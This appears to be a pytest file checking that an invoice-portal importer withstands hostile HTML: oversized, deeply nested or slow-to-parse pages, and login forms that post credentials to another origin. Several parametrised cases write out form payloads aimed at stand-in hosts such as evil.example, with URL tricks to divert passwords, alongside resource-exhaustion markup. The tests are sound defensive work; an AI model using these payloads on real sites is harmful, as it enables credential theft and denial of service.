"""Portals whose HTML is hostile: too much of it, too deep, or made so that reading it takes for ever."""

import re
from collections.abc import Callable

import pytest

from tests.hostile.attacks import Attack, Importer
from tests.portal_server import LOGIN_PAGE, PASSWORD, Route, answer, ordinary_routes

TEN_MEGABYTES = 10_000_000
TOO_MANY = "the page has more than 500,000 elements and attributes, too many to be read"
TOO_MANY_ATTRIBUTES = "the page has an element of more than 1,000 attributes, too many to be read"
TOO_LARGE = "the page has a tag or comment of more than 1,048,576 bytes, too large to be read"
TOO_DEEP = "the page is nested too deeply, or a part of it is too large, to be read"
GIVEN_UP = "seconds of computing, so it was given up"


def attack_billing_page(importer: Importer, page: str, **limits: float) -> Attack:
    return importer.attack(ordinary_routes() | {"GET /billing": answer(page)}, **limits)


def links(number: int) -> str:
    return "".join(f'<a href="/bills/17.pdf?{n}">Bill {n}</a>\n' for n in range(number))


def test_a_hundred_thousand_links(importer: Importer):
    made = attack_billing_page(importer, links(100_000), megabytes=160)
    assert made.error == "the page has more than 20,000 links, too many to be looked through"


def test_more_links_than_are_followed(importer: Importer):
    made = attack_billing_page(importer, links(5_000), max_documents=3)
    assert (made.status, made.error) == (
        "portal_error",
        "the billing page links 5,000 documents, more than the 3 allowed; the others were not downloaded",
    )
    assert len(made.bills) == 3


def table(rows: int) -> str:
    lines = (f"<tr><td>{n}<td>2026-11-24<td>1,00 €</tr>" for n in range(rows))
    return f"<table><tr><th>Invoice number<th>Issue date<th>Amount</tr>{''.join(lines)}</table>"


def test_a_table_of_a_hundred_thousand_rows(importer: Importer):
    made = attack_billing_page(importer, table(100_000), step_computing_seconds=60, megabytes=200)
    assert made.status in ("success", "portal_error")
    assert len(made.bills) in (0, 5_000)


def test_more_rows_than_can_be_held(importer: Importer):
    made = attack_billing_page(importer, table(200_000))
    assert (made.status, made.error) == ("portal_error", TOO_MANY)


ATTRIBUTES = " ".join(f'a{n}=">"' for n in range(50_000))
HOSTILE_MARKUP: dict[str, tuple[Callable[[], str], str]] = {
    "elements": (lambda: "<p>" * (TEN_MEGABYTES // 3), TOO_MANY),
    "inputs": (lambda: "<form>" + '<input type="password">' * (TEN_MEGABYTES // 23), TOO_MANY),
    "options": (lambda: "<form><select>" + "<option>" * (TEN_MEGABYTES // 8), TOO_MANY),
    "depth": (lambda: "<div>" * 5_000, TOO_DEEP),
    "depth of ten megabytes": (lambda: "<b>" * (TEN_MEGABYTES // 3), TOO_MANY),
    "tables within tables": (lambda: "<table><tr><td>" * 20_000, TOO_DEEP),
    "attributes": (lambda: f"<a {' '.join(f'a{n}' for n in range(100_000))}>", TOO_MANY_ATTRIBUTES),
    "attributes behind quotes": (lambda: f"""<a x="'<>" y='"<a>' {ATTRIBUTES}>""", TOO_MANY_ATTRIBUTES),
    "one tag": (lambda: f"<a {' '.join(f'a{n}' for n in range(1_000_000))}>", TOO_LARGE),
    "a tag without end": (lambda: '<a href="' + "x" * 5_000_000, TOO_LARGE),
    "one piece of text": (lambda: "<p>" + "x" * 10_400_000, TOO_DEEP),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE_MARKUP)
def test_markup_that_does_not_fit(importer: Importer, name: str):
    build, error = HOSTILE_MARKUP[name]
    made = attack_billing_page(importer, build(), megabytes=120)
    assert (made.status, made.error) == ("portal_error", error)
    made = importer.attack({"GET /login": answer(build())}, megabytes=120)
    assert (made.status, made.error) == ("portal_error", error)


LONG = "http://" * 100_000
BILLS = "<table><tr><th>Invoice number<th>Date<th>Amount</tr>"
POSTBACK = """<a href="javascript:__doPostBack('a','b')">PDF bill 1</a>"""
SLOW_TO_READ: dict[str, Callable[[], str]] = {
    "links of a megabyte": lambda: f'<a href="/x/{LONG}.pdf">PDF</a>' * 5,
    "words that repeat": lambda: "<p>" + "no open bills and no new " * 100_000,
    "an alert of many addresses": lambda: f'<p role="alert">{LONG}</p>' * 5,
    "a title of many addresses": lambda: f"<title>{LONG}</title><h1>{LONG}</h1>",
    "values without end": lambda: f"{BILLS}<tr><td>1<td>{'1-1-' * 500_000}<td>{'1.' * 500_000}</tr></table>",
    "headers without end": lambda: f"<table><tr>{'<th>amount' * 50_000}</tr><tr>{'<td>1' * 50_000}</tr></table>",
    "one cell over many columns": lambda: BILLS + f'<tr><td colspan="60">1{"<b>x</b>" * 2_000}</tr>' * 100,
    "forms": lambda: '<form><input name="a"><input type="password" name="b"></form>' * 10_000,
    "alerts": lambda: f'<p class="error">{"<b>x</b>" * 5}</p>' * 20_000,
    "blanks": lambda: "<p>" + " \n\t" * 1_000_000 + "<a href=\"/1.pdf\">" + " " * 1_000_000,
    "entities": lambda: "<p>" + "&amp;&#x26;&nbsp;" * 100_000,
    "styles": lambda: f'<p style="{"display :" * 100_000}">x',
    "names of fields": lambda: f'<form><input name="{"verif" * 100_000}"><input type="password"></form>',
    "classes": lambda: f'<p class="{"error_" * 100_000}x">x</p>',
    "a charset": lambda: "<meta " * 1_000 + "charset" * 1_000,
    "buttons of one form": lambda: BILLS + f"<form>{'<tr><td>1<td>2<td><button name=x>PDF</button></tr>' * 200}",
    "postbacks": lambda: "<form><input name=__EVENTTARGET>" + POSTBACK * 2_000,
    "posts": lambda: "<meta name=x>" * 2_000 + '<a data-method="post" href="/x.pdf">PDF</a>' * 300,
    "a page of the next": lambda: f'<a rel="{"next" * 100_000}" href="?{"x" * 7000}">{" ›" * 100_000}</a>',
}  # fmt: skip


@pytest.mark.parametrize("name", SLOW_TO_READ)
@pytest.mark.parametrize("stages", [["GET /login"], ["POST /login", "GET /billing"]], ids=["before", "after"])
def test_reading_does_not_take_the_square_of_what_is_read(importer: Importer, name: str, stages: list[str]):
    # A limit far above what reading needs and far below what the square of it would.
    made = importer.attack(
        ordinary_routes() | dict.fromkeys(stages, answer(SLOW_TO_READ[name]())), step_computing_seconds=9
    )
    assert GIVEN_UP not in f"{made.error} {made.lines}"


def test_reading_that_takes_too_long_is_given_up(importer: Importer):
    # Whatever is slow to read, now or one day: here a page for which nothing is allowed.
    made = attack_billing_page(importer, links(20_000), step_computing_seconds=0.05, megabytes=160)
    assert made.status == "portal_error"
    assert re.fullmatch(f"reading what the portal sent took more than 0.05 {GIVEN_UP}", made.error or "")


@pytest.mark.parametrize(
    "form",
    [
        '<form method="post" action="http://127.0.0.1:1/steal">{}</form>',
        '<form method="post" action="https://evil.example/login">{}</form>',
        '<form method="post" action="//evil.example/login">{}</form>',
        '<base href="http://evil.example/"><form method="post" action="login">{}</form>',
        '<form method="post" action="/login">{}<button formaction="http://evil.example/x">Sign in</button></form>',
        '<form method="post" action="http:\\\\evil.example\\login">{}</form>',
        '<form method="post" action="http://127.0.0.1@evil.example/login">{}</form>',
    ],
)
def test_form_that_posts_to_another_origin(importer: Importer, form: str):
    fields = '<input name="email" type="email"><input name="pass" type="password">'
    made = importer.attack(ordinary_routes() | {"GET /login": answer(form.format(fields))})
    assert made.status == "portal_changed"
    assert "another site" in (made.error or "")
    assert made.count("POST", "/login") == 0


def test_portal_that_repeats_the_password_in_every_way_is_quoted_without_it(importer: Importer):
    echo = f'<p class="error">Wrong: {PASSWORD} / {"x" * 190}{PASSWORD} {PASSWORD.encode().hex()}</p>'
    routes: dict[str, Route] = ordinary_routes() | {"POST /login": answer(LOGIN_PAGE.format(visitor="v", alert=echo))}
    made = importer.attack(routes | {"GET /billing": answer("no", 401)})
    assert made.status == "wrong_credentials"
